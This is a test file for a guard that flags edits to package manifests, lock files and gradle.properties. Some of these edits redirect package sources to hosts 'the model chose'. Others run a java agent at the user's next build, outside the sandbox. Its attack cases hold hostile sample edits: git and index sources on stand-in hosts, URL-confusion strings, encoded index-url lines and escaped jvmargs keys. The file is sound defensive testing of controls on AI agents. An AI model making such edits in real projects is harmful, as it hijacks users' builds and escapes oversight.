"""Where manifests say packages come from, read by one rule (``package_sources``): every string that names a url, a
repository or an archive, outside the tables that only describe the project — asked when a call adds or moves one
(red team 116 F2); a file in another encoding than UTF-8 is not read (F3)."""

from __future__ import annotations

import codecs
import json
from pathlib import Path

import pytest

from mcp_server_guard.hook_configs import installer_hook_keys, installer_manifest


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        (
            "Cargo.toml",
            '[package]\nname = "a"\n',
            '[package]\nname = "a"\nrepository = "https://github.com/o/a"\n'
            'homepage = "https://a.example"\n[package.metadata.docs.rs]\nrustdoc-args = ["--html-in-header", '
            '"https://x.example/h.html"]\n',
        ),
        (
            "Cargo.toml",
            '[dependencies]\nserde = "1"\n',
            '[dependencies]\nserde = { version = "1", features = ["derive"] }\nlocal = { path = "crates/local" }\n',
        ),
        (
            "pyproject.toml",
            '[project]\nname = "a"\n',
            '[project]\nname = "a"\n[project.urls]\nHomepage = '
            '"https://a.example"\n[tool.towncrier]\nissue_format = "https://github.com/o/a/issues/{issue}"\n',
        ),
        (
            "pyproject.toml",
            '[tool.setuptools.package-data]\na = ["*.txt"]\n',
            '[tool.setuptools.package-data]\na = ["*.txt", "data/*.zip"]\n',
        ),
        (
            "composer.json",
            '{"name": "a/b"}',
            '{"name": "a/b", "homepage": "https://a.example", "support": '
            '{"issues": "https://github.com/a/b/issues"}, "require": {"monolog/monolog": "^3.0"}}',
        ),
        (
            "Gemfile",
            'source "https://rubygems.org"\ngem "rake"\n',
            'source "https://rubygems.org"\ngem "rake"\ngem "rspec", "~> 3.12", group: :test\n',
        ),
        (
            "setup.cfg",
            "[metadata]\nname = a\n",
            "[metadata]\nname = a\nurl = https://a.example\n[options]\ninstall_requires =\n    requests>=2\n",
        ),
        ("dev-requirements.txt", "pytest\n", "pytest\nruff==0.8\n"),
        ("Pipfile", '[packages]\nrequests = "*"\n', '[packages]\nrequests = "*"\nflask = {version = "*"}\n'),
        (
            "pubspec.yaml",
            "name: a\nhomepage: https://a.example\ndependencies:\n  path: ^1.9.0\n",
            "name: a\nhomepage: https://a.example\nrepository: https://github.com/o/a\ndependencies:\n  path: ^1.9.1\n"
            "  http: ^1.2.0\n",
        ),
        ("vcpkg.json", '{"name": "a", "dependencies": ["fmt"]}', '{"name": "a", "dependencies": ["fmt", "zlib"]}'),
    ],
)
def test_everyday_manifest_edits_name_no_source(path: str, before: str, after: str) -> None:
    assert installer_manifest(path)
    assert installer_hook_keys(path, before.encode(), after.encode()) == []


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("Cargo.toml", '[dependencies]\nserde = "1"\n', '[dependencies]\nserde = { git = "https://x.example/s" }\n'),
        (
            "Cargo.toml",
            '[dependencies]\nserde = "1"\n',
            '[dependencies]\nserde = "1"\n[patch.crates-io]\nserde = { git = "ssh://git@x.example/s" }\n',
        ),
        (
            "composer.json",
            '{"name": "a/b"}',
            '{"name": "a/b", "repositories": [{"type": "vcs", "url": "git@x.example:a/b.git"}]}',
        ),
        ("Gemfile", 'source "https://rubygems.org"\ngem "rake"\n', 'source "https://gems.x.example"\ngem "rake"\n'),
        ("Gemfile", 'gem "rake"\n', 'gem "rake", github: "someone/rake"\n'),
        ("gems.rb", 'gem "rake"\n', 'gem "rake", :git => "https://x.example/rake.git"\n'),
        (
            "pyproject.toml",
            '[tool.poetry.dependencies]\nrequests = "^2"\n',
            '[tool.poetry.dependencies]\nrequests = { git = "https://x.example/requests.git" }\n',
        ),
        (
            "pyproject.toml",
            '[tool.pixi.workspace]\nchannels = ["conda-forge"]\n',
            '[tool.pixi.workspace]\nchannels = ["https://x.example/channel"]\n',
        ),
        (
            "pyproject.toml",
            '[tool.pdm.dev-dependencies]\ntest = ["pytest"]\n',
            '[tool.pdm.dev-dependencies]\ntest = ["pytest @ git+https://x.example/pytest"]\n',
        ),
        (
            "pixi.toml",
            '[pypi-dependencies]\nrequests = "*"\n',
            '[pypi-dependencies]\nrequests = { url = "https://x.example/requests-2.0-py3-none-any.whl" }\n',
        ),
        ("Pipfile", '[packages]\nrequests = "*"\n', '[packages]\nrequests = {path = "./vendor/requests-2.0.tar.gz"}\n'),
        (
            "setup.cfg",
            "[options]\ninstall_requires =\n    requests\n",
            "[options]\ninstall_requires =\n    requests @ https://x.example/r.zip\n",
        ),
        ("requirements/base.txt", "requests\n", "--extra-index-url https://x.example/simple\nrequests\n"),
        ("requirements-dev.in", "pytest\n", "-i https://x.example/simple\npytest\n"),
    ],
)
def test_attack_a_manifest_names_a_source_the_model_chose(path: str, before: str, after: str) -> None:
    assert installer_manifest(path)
    assert installer_hook_keys(path, before.encode(), after.encode()), (path, after)


@pytest.mark.parametrize(
    "after",
    [
        codecs.BOM_UTF16_LE + "--index-url https://x.example/simple\nrequests\n".encode("utf-16-le"),
        b"# -*- coding: utf-7 -*-\n+AC0ALQ-index-url https+ADo-//x.example/simple\nrequests\n",
        b"requests\x00\n",
    ],
)
def test_attack_a_requirements_file_in_another_encoding_is_not_read_as_utf8(after: bytes) -> None:
    assert installer_hook_keys("requirements.txt", b"requests\n", after) == [
        "(the whole file: it could not be read here)"
    ]


def test_a_package_json_names_fetched_specs_in_any_table_of_specs_and_nothing_else() -> None:
    from mcp_server_guard.hook_configs import changed_hook_keys

    base = b'{"name": "a", "dependencies": {"left-pad": "^1.3.0"}}'
    everyday = (b'{"name": "a", "main": "dist/index.js", "homepage": "https://a.example", "repository": '
                b'"github:o/a", "jest": {"testURL": "http://localhost/"}, "proxy": "http://localhost:4000", '
                b'"workspaces": ["packages/*"], "dependencies": {"left-pad": "^1.3.0", "b": "workspace:*", '
                b'"c": "npm:d@1"}}')  # fmt: skip
    assert changed_hook_keys(base, everyday) == []
    for after in (b'{"name": "a", "pnpm": {"overrides": {"left-pad": "https://x.example/l.tgz"}}}',
                  b'{"name": "a", "pnpm": {"packageExtensions": {"x@1": {"dependencies": {"y": "git+https://x.example/y"}}}}}',
                  b'{"name": "a", "workspaces": {"catalog": {"left-pad": "someone/left-pad"}}}',
                  b'{"name": "a", "catalogs": {"dev": {"left-pad": "./left-pad-1.0.0.tgz"}}}'):  # fmt: skip
        assert changed_hook_keys(base, after), after


LOCKS = json.loads((Path(__file__).with_name("lock_cases.json")).read_text())


@pytest.mark.parametrize("name", sorted(LOCKS["everyday"]))
def test_an_everyday_lock_update_from_the_registry_fetches_from_no_new_place(name: str) -> None:
    before, after = LOCKS["everyday"][name]
    assert installer_manifest(name)
    assert installer_hook_keys(name, before.encode(), after.encode()) == []


@pytest.mark.parametrize("name", sorted(LOCKS["attacks"]))
def test_attack_a_lock_entry_moved_to_a_place_the_model_chose_is_named(name: str) -> None:
    # Threat: the user's next `npm ci`, `uv sync`, `cargo build`, `bundle install`, `composer install` fetches what
    # the lock says, whatever the manifest says: a lock entry moved to another host, repository or archive.
    before, after = LOCKS["attacks"][name]
    keys = installer_hook_keys(name, before.encode(), after.encode())
    assert keys and all(key.startswith("fetches from") for key in keys), keys


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "registry registry.npmjs.org"),
        ("registry+https://github.com/rust-lang/crates.io-index", "github.com/rust-lang/crates.io-index"),
        ("https://api.github.com/repos/Seldaek/monolog/zipball/abc", "api.github.com/Seldaek/monolog"),
        ("https://npm.corp.example:8443/x.tgz", "host npm.corp.example"),
        ("left-pad@npm:1.3.0", ""),
        ("sha512-abc==", ""),
        ("1.3.0", ""),
        (
            "http://127.0.0.1:9\\@registry.npmjs.org/left-pad.tgz",
            "escaped http://127.0.0.1:9\\@registry.npmjs.org/left-pad.tgz",
        ),
        ("http://registry.npmjs.org,@127.0.0.1:9/left-pad", "url http://registry.npmjs.org,@127.0.0.1:9/left-pad"),
        ("https://registry.npmjs.org\t.evil.example/x", "url https://registry.npmjs.org\t.evil.example/x"),
        ("http:127.0.0.1:9/left-pad", "url http:127.0.0.1:9/left-pad"),
        (
            "https://codeload.github.com/o/r/../../someone/evil/tar.gz/main",
            "url https://codeload.github.com/o/r/../../someone/evil/tar.gz/main",
        ),
        ("https://codeload.github.com/o/r/%2e%2e/x", "url https://codeload.github.com/o/r/%2e%2e/x"),
        ("file:vendor/left-pad-1.3.0.TGZ", "url file:vendor/left-pad-1.3.0.TGZ"),
        ("vendor/left-pad-1.3.0.tar", "archive vendor/left-pad-1.3.0.tar"),
    ],
)
def test_a_lock_string_is_a_place_by_its_host_only_where_every_reader_reads_it_alike(text: str, place: str) -> None:
    from mcp_server_guard.package_locks import _place

    assert _place(text) == place


@pytest.mark.parametrize(
    ("after", "asked"),
    [
        ("version=1.2.4\nkotlin.code.style=official\n", False),
        ("version=1.2.3\norg.gradle.jvmargs=-Xmx2g -javaagent:tools/a.jar\n", True),
        ("version=1.2.3\norg.gradle.jvm\\u0061rgs=-javaagent:tools/a.jar\n", True),
        ("version=1.2.3\norg.gradle.\\\n    jvmargs -javaagent:tools/a.jar\n", True),
        ("version=1.2.3\r! comment\rorg.gradle.java.home=/tmp/jdk\r", True),
        ("version=1.2.3\nsystemProp.https.proxyHost=proxy.x.example\n", True),
        ("version=1.2.3\n# org.gradle.jvmargs=-javaagent:tools/a.jar\n", False),
    ],
)
def test_attack_gradle_properties_start_a_program_by_a_key_read_as_java_reads_it(after: str, asked: bool) -> None:
    # Threat: `org.gradle.jvmargs=-javaagent:tools/a.jar` in the project's gradle.properties runs the model's jar at the
    # user's next `gradle build`, outside the box; Java reads \uXXXX escapes and continued lines in keys.
    keys = installer_hook_keys("gradle.properties", b"version=1.2.3\n", after.encode())
    assert bool(keys) is asked, keys
